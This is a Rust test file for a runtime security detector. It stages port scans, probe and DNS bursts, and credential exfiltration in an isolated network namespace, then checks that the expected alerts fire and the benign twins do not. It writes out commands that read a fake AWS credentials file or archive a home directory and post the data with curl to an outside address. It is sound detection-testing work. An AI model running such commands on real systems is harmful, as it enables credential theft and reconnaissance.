//! The stateful rules in the detections test: the network-scan harness of
//! `common/netns.rs` (every connect event checked, and the scan rules'
//! alerts by [`assert_scan_alerts`]), and the sequence and threshold rules of
//! `rules/mamori_stateful_rules.yaml` (read then send, archive then send,
//! failed-connect, denied-open and DNS lookup bursts), each with a twin.

use std::{
    collections::BTreeMap,
    net::{IpAddr, Ipv4Addr},
    path::PathBuf,
    process::Command,
};

use serde_json::Value;

use crate::container::FakeContainer;
use crate::harness::{run_bounded, run_ok, tool};
use crate::netns::{ConnectRun, ScanPlan, TestNet};
use crate::{
    field, text, Ctx, ARCHIVE_THEN_SEND, DENIED_BURST, DNS_BURST, FAILED_BURST, PUBLIC_IP,
    READ_THEN_SEND, READ_THEN_SEND_SHELL,
};

// ---------------------------------------------------------- scan harness

/// What [`scans`] did, for [`assert_scan_alerts`].
pub(crate) struct ScanResult {
    /// The host of the vertical scan.
    target: Ipv4Addr,
    vertical: ConnectRun,
    horizontal: ConnectRun,
    benign: ConnectRun,
}

/// The scan harness: a vertical scan, a horizontal sweep and a benign client
/// against the test's own namespace; checks every connect event.
pub(crate) fn scans(cx: &mut Ctx) -> ScanResult {
    let net = TestNet::create(0);
    let (v, h, b) = scan_runs(&net);
    for run in [&v, &h, &b] {
        let evs = cx.events.connects_of(run.pid, run.targets.len(), |_| true);
        assert_eq!(evs.len(), run.targets.len(), "{} connect events", run.comm);
        let mut want: BTreeMap<(IpAddr, u16), usize> = BTreeMap::new();
        for t in &run.targets {
            *want.entry((IpAddr::V4(*t.ip()), t.port())).or_default() += 1;
        }
        let mut got: BTreeMap<(IpAddr, u16), usize> = BTreeMap::new();
        for e in &evs {
            assert_eq!(e.res, -(libc::ECONNREFUSED as i64), "{e:#?}");
            assert_eq!(e.proc.name, run.comm);
            let f = e.fd.as_ref().expect("socket");
            assert_eq!(f.l4proto.as_deref(), Some("tcp"));
            *got.entry((f.rip.expect("rip"), f.rport.expect("rport")))
                .or_default() += 1;
        }
        assert_eq!(
            got, want,
            "{}: (fd.rip, fd.rport) of its connects",
            run.comm
        );
    }
    ScanResult {
        target: net.peers[0],
        vertical: v,
        horizontal: h,
        benign: b,
    }
}

/// The three connecting processes, each checked to have been refused on
/// every connect.
fn scan_runs(net: &TestNet) -> (ConnectRun, ConnectRun, ConnectRun) {
    let v = ScanPlan::vertical(net, 30).run("mamori-vscan");
    let h = ScanPlan::horizontal(net, 8080).run("mamori-hscan");
    let b = ScanPlan::benign(net, 3, 5432).run("mamori-client");
    for r in [&v, &h, &b] {
        assert!(r.all_refused(), "{}: {:?}", r.comm, r.results);
    }
    (v, h, b)
}

// ------------------------------------------------- stateful scan rules

/// The stateful scan rules of `rules/mamori_stateful_rules.yaml`.
const VERTICAL_SCAN_RULE: &str = "Port Scan of One Host";
const HORIZONTAL_SCAN_RULE: &str = "Network Sweep Across Hosts";

/// The scan-detection assertions on all alerts of a run that saw
/// [`scan_runs`]: the vertical scan (30 ports of one host) fires
/// [`VERTICAL_SCAN_RULE`] once and the sweep (one port on 20 hosts)
/// [`HORIZONTAL_SCAN_RULE`] once, each naming its process, target and a
/// refused result; neither fires for the other scanner or the 3-connect
/// client. Alerts are tied to a process by `proc.pid`.
pub(crate) fn assert_scan_alerts(alerts: &[Value], scan: &ScanResult) {
    let (v, h, b) = (&scan.vertical, &scan.horizontal, &scan.benign);
    let of = |rule: &str, r: &ConnectRun| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|a| a["rule"] == rule && text(a, "proc.pid") == r.pid.to_string())
            .collect()
    };
    let vert = of(VERTICAL_SCAN_RULE, v);
    assert_eq!(vert.len(), 1, "vertical scan alerts: {alerts:#?}");
    let a = vert[0];
    assert_eq!(text(a, "fd.rip"), scan.target.to_string(), "{a:#}");
    assert_eq!(text(a, "evt.res"), "ECONNREFUSED", "{a:#}");
    assert_eq!(a["priority"], "Warning");
    let sweep = of(HORIZONTAL_SCAN_RULE, h);
    assert_eq!(sweep.len(), 1, "sweep alerts: {alerts:#?}");
    let a = sweep[0];
    assert_eq!(text(a, "fd.rport"), "8080", "{a:#}");
    assert_eq!(text(a, "evt.res"), "ECONNREFUSED", "{a:#}");
    assert_eq!(a["priority"], "Warning");
    for (rule, r, what) in [
        (VERTICAL_SCAN_RULE, h, "the sweep taken for a vertical scan"),
        (
            VERTICAL_SCAN_RULE,
            b,
            "the benign client taken for a vertical scan",
        ),
        (
            HORIZONTAL_SCAN_RULE,
            v,
            "the vertical scan taken for a sweep",
        ),
        (
            HORIZONTAL_SCAN_RULE,
            b,
            "the benign client taken for a sweep",
        ),
    ] {
        assert!(of(rule, r).is_empty(), "{what}: {:#?}", of(rule, r));
    }
}

// ------------------------------------------------- other stateful rules

/// `unshare -n sh -c SCRIPT ARGS...` (a shell whose connects cannot leave:
/// the namespace has no route); its pid.
fn shell_in_empty_netns(script: &str, args: &[&str]) -> u32 {
    let mut c = Command::new("unshare");
    c.args(["-n", "sh", "-c", script, "sh"]).args(args);
    let (pid, _) = run_bounded(c);
    pid
}

/// The read-then-send sequences, the failed-connect and denied-open bursts
/// of a container, and the DNS lookup burst: each real, each with a twin.
pub(crate) fn stateful_rules(cx: &mut Ctx, ctr: &FakeContainer) {
    let v = Victim::create(&cx.dir);
    read_then_send_from_shell(cx, &v);
    archive_then_send(cx, &v);
    read_then_send_from_one_process(cx, &v);
    probe_burst(cx, ctr);
    denied_burst(cx, ctr);
    dns_burst(cx);
}

/// A victim home with fake cloud credentials and an ordinary file, and an
/// outside URL (only ever dialled inside `unshare -n`).
struct Victim {
    home: PathBuf,
    cred: String,
    notes: String,
    url: String,
}

impl Victim {
    fn create(dir: &std::path::Path) -> Victim {
        let home = dir.join("victim");
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        let cred = home.join(".aws/credentials");
        std::fs::write(&cred, "[default]\naws_secret_access_key=fake\n").unwrap();
        let notes = home.join("notes.txt");
        std::fs::write(&notes, "nothing secret").unwrap();
        let (cred_s, notes_s) = (cred.display().to_string(), notes.display().to_string());
        Victim {
            home,
            cred: cred_s,
            notes: notes_s,
            url: format!("http://{PUBLIC_IP}:443/"),
        }
    }
}

/// cat reads the credentials, then curl (a sibling in one shell) sends.
fn read_then_send_from_shell(cx: &mut Ctx, v: &Victim) {
    let (cred_s, notes_s, url) = (v.cred.clone(), v.notes.clone(), v.url.clone());
    // A shell pipeline: cat reads the credentials, then curl (a sibling)
    // tries an outside address (ENETUNREACH: no packet leaves).
    let send = "cat \"$1\" > /dev/null; curl -s -m 2 \"$2\"; true";
    let sh = shell_in_empty_netns(send, &[&cred_s, &url]);
    let a = cx.expect_one(
        "cat credentials then curl out, one shell",
        READ_THEN_SEND_SHELL,
        move |a| text(a, "seq.read.proc.ppid") == sh.to_string(),
    );
    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
    assert_eq!(field(&a, "evt.res"), "ENETUNREACH", "{a:#}");
    assert_eq!(field(&a, "seq.read.proc.cmdline"), format!("cat {cred_s}"));
    assert_eq!(a["priority"], "Critical");
    // Twins: an ordinary file then the same send; the credentials then a
    // loopback (internal) destination.
    let sh_benign = shell_in_empty_netns(send, &[&notes_s, &url]);
    let sh_local = shell_in_empty_netns(send, &[&cred_s, "http://127.0.0.1:9/"]);
    cx.twin("cat an ordinary file then curl out", move |a| {
        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_benign.to_string()
    });
    cx.twin("cat credentials then a loopback connect", move |a| {
        a["rule"] == READ_THEN_SEND_SHELL && text(a, "seq.read.proc.ppid") == sh_local.to_string()
    });
}

/// One shell archives a directory, then curl sends.
fn archive_then_send(cx: &mut Ctx, v: &Victim) {
    let (home, url) = (&v.home, v.url.clone());
    // Collection then egress: one shell archives a directory, then curl
    // tries an outside address; listing an archive instead does not fire.
    let pack = "tar czf \"$1.tgz\" -C \"$1\" . && curl -s -m 2 \"$2\"; true";
    let home_s = home.display().to_string();
    let sh_pack = shell_in_empty_netns(pack, &[&home_s, &url]);
    let a = cx.expect_one(
        "tar czf then curl out, one shell",
        ARCHIVE_THEN_SEND,
        move |a| text(a, "seq.archive.proc.ppid") == sh_pack.to_string(),
    );
    assert_eq!(field(&a, "fd.rip"), PUBLIC_IP, "{a:#}");
    assert!(
        field(&a, "seq.archive.proc.cmdline").starts_with("tar czf"),
        "{a:#}"
    );
    let list = "tar tzf \"$1.tgz\" > /dev/null && curl -s -m 2 \"$2\"; true";
    let sh_list = shell_in_empty_netns(list, &[&home_s, &url]);
    cx.twin("tar tzf then curl out", move |a| {
        a["rule"] == ARCHIVE_THEN_SEND && text(a, "seq.archive.proc.ppid") == sh_list.to_string()
    });
}

/// One process (curl) reads the credentials and sends them.
fn read_then_send_from_one_process(cx: &mut Ctx, v: &Victim) {
    let (cred_s, notes_s, url) = (v.cred.clone(), v.notes.clone(), v.url.clone());
    // One process reads and sends: curl --data-binary @credentials.
    let curl = |file: &str| {
        let mut c = Command::new("unshare");
        c.args(["-n", "curl", "-s", "-m", "2", "--data-binary"])
            .arg(format!("@{file}"))
            .arg(&url);
        run_bounded(c).0
    };
    let pid = curl(&cred_s);
    let a = cx.expect_one("curl posting credentials out", READ_THEN_SEND, move |a| {
        text(a, "proc.pid") == pid.to_string()
    });
    assert_eq!(field(&a, "seq.read.fd.name"), cred_s, "{a:#}");
    assert_eq!(text(&a, "fd.rport"), "443", "{a:#}");
    let pid_benign = curl(&notes_s);
    cx.twin("curl posting an ordinary file out", move |a| {
        a["rule"] == READ_THEN_SEND && text(a, "proc.pid") == pid_benign.to_string()
    });
}

/// Refused probes from a container (a burst) and from the host (a twin).
fn probe_burst(cx: &mut Ctx, ctr: &FakeContainer) {
    // Blind probing from a container: 22 short-lived curls, each refused.
    let net = TestNet::create(2);
    let target = net.peers[0].to_string();
    let probe = "for p in $(seq 2000 2021); do curl -s -m 1 \"http://$0:$p/\"; done; true";
    let run = ctr.spawn("sh", &["-c", probe, &target]);
    let cid = ctr.short_id().to_string();
    let a = cx.expect_one("22 refused probes from a container", FAILED_BURST, {
        let cid = cid.clone();
        move |a| field(a, "container.id") == cid
    });
    cx.keep.push(run);
    assert_eq!(text(&a, "threshold.count"), "20", "{a:#}");
    // curl connects without blocking: the attempt is in progress when the
    // syscall returns, refused later.
    assert_eq!(field(&a, "evt.res"), "EINPROGRESS", "{a:#}");
    // The same probes from the host: not a container, no alert.
    let mut c = Command::new("sh");
    c.args(["-c", probe, &target]);
    run_ok(c);
    cx.twin("refused probes from the host", move |a| {
        a["rule"] == FAILED_BURST && field(a, "container.id") != cid
    });
}

/// Denied opens as an unprivileged user in a container and on the host.
fn denied_burst(cx: &mut Ctx, ctr: &FakeContainer) {
    // Enumeration as an unprivileged user: 35 opens refused with EACCES.
    let locked = cx.dir.join("locked");
    std::fs::create_dir_all(&locked).unwrap();
    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let enumerate = "for i in $(seq 1 35); do cat \"$0/f-$i\" 2>/dev/null; done; true";
    let locked_s = locked.display().to_string();
    let as_nobody = [
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "sh",
        "-c",
    ];
    let mut args = as_nobody.to_vec();
    args.extend([enumerate, &locked_s]);
    let run = ctr.spawn("setpriv", &args);
    let cid = ctr.short_id().to_string();
    let a = cx.expect_one("35 denied opens in a container", DENIED_BURST, {
        let (cid, locked_s) = (cid.clone(), locked_s.clone());
        move |a| field(a, "container.id") == cid && field(a, "fd.name").starts_with(&locked_s)
    });
    cx.keep.push(run);
    assert_eq!(text(&a, "threshold.count"), "30", "{a:#}");
    let mut c = Command::new("setpriv");
    c.args(&args);
    run_ok(c);
    cx.twin("denied opens on the host", move |a| {
        a["rule"] == DENIED_BURST && field(a, "container.id") != cid
    });
}

/// `dig` for many names from one shell, and for one name many times.
fn dns_burst(cx: &mut Ctx) {
    // DNS enumeration: one shell runs `dig` for 12 names.
    let dig = tool(&cx.dir, "dig", "/bin/true");
    let dig_s = dig.display().to_string();
    let many = "for i in $(seq 1 12); do \"$0\" +short \"svc-$i.prod.svc.cluster.local\"; done";
    let mut c = Command::new("sh");
    c.args(["-c", many, &dig_s]);
    let (sh, _) = run_ok(c);
    let a = cx.expect_one("dig for 12 names from one shell", DNS_BURST, move |a| {
        text(a, "proc.ppid") == sh.to_string()
    });
    assert_eq!(text(&a, "threshold.count"), "10", "{a:#}");
    let same = "for i in $(seq 1 12); do \"$0\" +short example.com; done";
    let mut c = Command::new("sh");
    c.args(["-c", same, &dig_s]);
    let (sh_same, _) = run_ok(c);
    cx.twin("dig of one name 12 times", move |a| {
        a["rule"] == DNS_BURST && text(a, "proc.ppid") == sh_same.to_string()
    });
}
